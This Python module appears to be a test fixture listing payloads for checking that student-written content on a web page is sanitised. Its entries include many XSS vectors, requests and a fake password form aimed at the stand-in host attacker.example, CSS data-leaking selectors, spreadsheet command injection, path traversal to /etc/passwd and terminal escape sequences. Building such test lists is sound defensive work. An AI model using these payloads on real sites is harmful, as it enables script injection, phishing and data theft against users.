"""What students have put, or could put, wherever they may write.

Each payload but the last kind has a positive control: in a page that is neither cleaned nor under
a policy it does what it is listed under. `RAN` is how a script tells that it ran; the server
`OUTSIDE` is not ours.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum

OUTSIDE = "attacker.example"
RAN = "top.pwned=1"


class Effect(StrEnum):
    """What a payload does to whoever opens it."""

    SCRIPT = "script"
    REQUEST = "request"
    NAVIGATION = "navigation"
    NONE = "none"
    """Nothing in a browser by itself: it aims at the page's words, a terminal or a spreadsheet."""


class Reading(StrEnum):
    """How a careless page reads it."""

    HTML = "html"
    MARKDOWN = "markdown"
    TWICE = "html, written out and read again"


@dataclass(frozen=True)
class Payload:
    """One thing to write."""

    name: str
    text: str
    does: Effect
    reading: Reading = Reading.HTML


_FAILS = f"<img src=x onerror={RAN}>"
_AT = f"http://{OUTSIDE}"

_SCRIPT = {
    "script": f"<script>{RAN}</script>",
    "what is open, closed": f"</pre></code></div></main></body><script>{RAN}</script>",
    "raw text, closed": f"</title></style></textarea></svg><script>{RAN}</script>",
    "comment, closed": f"<!-- x --!>{_FAILS} -->",
    "attribute, closed": f"\">{_FAILS}<a title='",
    "single-quoted attribute, closed": f"'><svg onload={RAN}></svg><a title=\"",
    "image that fails": _FAILS,
    "image without an end": f"<img src=x onerror={RAN}//",
    "mixed case": f"<ScRiPt>{RAN}</sCrIpT>",
    "slashes for blanks": f"<img/src='x'/onerror={RAN}>",
    "svg that loads": f"<svg onload={RAN}></svg>",
    "svg with a script": f"<svg><script>{RAN}</script></svg>",
    "svg as a file": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RAN}"/>',
    "svg animation": f"<svg><animate onbegin={RAN} attributeName=x dur=1s></svg>",
    "html in svg": f"<svg><foreignObject>{_FAILS}</foreignObject></svg>",
    "link in svg": f"<svg><a href='javascript:{RAN}'><text y=20>x</text></a></svg>",
    "html in mathml": f"<math><annotation-xml encoding=text/html>{_FAILS}</annotation-xml></math>",
    "noscript that ends early": f"<noscript><p title='</noscript>{_FAILS}'>",
    "frame with a document": f'<iframe srcdoc="<script>{RAN}</script>"></iframe>',
    "frame with a script": f"<iframe src='javascript:{RAN}'></iframe>",
    "details that open": f"<details open ontoggle={RAN}><summary>x</summary>x</details>",
    "field that takes the focus": f"<input autofocus onfocus={RAN}>",
    "text under the mouse": f"<b onmouseover={RAN}>score</b>",
    "media that fails": f"<video><source onerror={RAN} src=x></video>",
    "body that loads": f"<body onload={RAN}>",
    "style that animates": f"<style>@keyframes k{{}}</style><b style='animation:k 1ms' "
    f"onanimationstart={RAN}>x</b>",
    "shadow root": f"<div><template shadowrootmode=open>{_FAILS}</template></div>",
    "button with an address": f"<form><button formaction='javascript:{RAN}'>x</button></form>",
    "link": f"<a href='javascript:{RAN}'>my notes</a>",
    "link with a tab in it": f"<a href='java&Tab;script:{RAN}'>my notes</a>",
    "link in capitals": f"<a href='&#1;JAVASCRIPT:{RAN}'>my notes</a>",
    "long name": "A" * 6_000 + f"<script>{RAN}</script>",
}
_SCRIPT_READ_TWICE = {
    "form that changes": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={RAN}></style></mglyph></form></mtext></math>",
}
_SCRIPT_IN_MARKDOWN = {
    "Markdown link": f"[my notes](<javascript:{RAN}>)",
    "Markdown reference": f"[x]\n\n[x]: javascript:{RAN}",
    "Markdown autolink": f"<javascript:{RAN}>",
    "Markdown around HTML": f"**a**\n\n<img src=x onerror='{RAN}'>\n\n`b`",
}
_REQUEST = {
    "remote image": f"<img src='{_AT}/i'>",
    "remote image of several": f"<img srcset='{_AT}/i 1x'>",
    "remote picture": f"<picture><source srcset='{_AT}/i'><img></picture>",
    "remote image in svg": f"<svg><image href='{_AT}/i'/></svg>",
    "remote poster": f"<video poster='{_AT}/i'></video>",
    "remote sound": f"<audio src='{_AT}/i' preload=auto></audio>",
    "remote frame": f"<iframe src='{_AT}/f'></iframe>",
    "remote object": f"<object data='{_AT}/o'></object>",
    "remote embed": f"<embed src='{_AT}/e'>",
    "remote style": f"<link rel=stylesheet href='{_AT}/s.css'>",
    "early image": f"<link rel=preload as=image href='{_AT}/i'>",
    "early page": f"<link rel=prefetch href='{_AT}/p'>",
    "imported style": f"<style>@import '{_AT}/s.css';</style>",
    "style that fetches": f"<style>*{{background:url({_AT}/b)}}</style>",
    "style that reads": f"<style>[lang^=e]{{background:url({_AT}/lang-e)}}</style>",
    "style attribute that fetches": f"<p style='background:url({_AT}/b)'>x</p>",
    "font that fetches": f"<style>@font-face{{font-family:f;src:url({_AT}/f)}}"
    "*{font-family:f!important}</style>x",
    "other base": f"<base href='{_AT}/'><img src=x>",
}
_REQUEST_IN_MARKDOWN = {"Markdown image": f"![x]({_AT}/i.png)"}
_NAVIGATION = {
    "form": f"<form action='{_AT}/in'><input name=password><button>Log in</button></form>",
    "refresh": f"<meta http-equiv=refresh content='0;url={_AT}/r'>",
}
_OTHER = {
    "page over the page": "<div style='position:fixed;inset:0;z-index:9'>20 / 20</div>",
    "the page's own marks": "<h1 id=content class='status good'>20 / 20</h1>",
    "link to a page of its own": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "remote part of an svg": f"<svg><use href='{_AT}/i.svg#a'/></svg>",
    "early connection": f"<link rel=preconnect href='{_AT}'>",
    "template": "{{ 7*7 }}{% for x in y %}${7*7}<%= 7*7 %>#{7*7}",
    "formula with a link": f"$\\href{{javascript:{RAN}}}{{x}}$ $\\text{{<b onload={RAN}>}}$",
    "colours and a window title": "\x1b[31mred\x1b[0m\x1b]0;title\x07\x9b31m\x1b[2J",
    "link in a terminal": f"\x1b]8;;javascript:{RAN}\x07my notes\x1b]8;;\x07",
    "words read backwards": "\u202eadmin\u202c\u2066\u2067\u200b\ufeff",
    "null bytes": f"<scr\x00ipt>{RAN}</scr\x00ipt><img src=x one\x00rror={RAN}>",
    "half a character": "\ud800<b>\udfff",
    "seven-bit script": f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    "link in a spreadsheet": f'=HYPERLINK("{_AT}","grades")',
    "command in a spreadsheet": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a line end": "\r\n=1+1",
    "path": "../../../etc/passwd",
    "path with a query": "..\\..\\class.html?x#y",
}


def _listed(texts: dict[str, str], does: Effect, reading: Reading = Reading.HTML) -> list[Payload]:
    return [Payload(name, text, does, reading) for name, text in texts.items()]


PAYLOADS = [
    *_listed(_SCRIPT, Effect.SCRIPT),
    *_listed(_SCRIPT_READ_TWICE, Effect.SCRIPT, Reading.TWICE),
    *_listed(_SCRIPT_IN_MARKDOWN, Effect.SCRIPT, Reading.MARKDOWN),
    *_listed(_REQUEST, Effect.REQUEST),
    *_listed(_REQUEST_IN_MARKDOWN, Effect.REQUEST, Reading.MARKDOWN),
    *_listed(_NAVIGATION, Effect.NAVIGATION),
    *_listed(_OTHER, Effect.NONE),
]
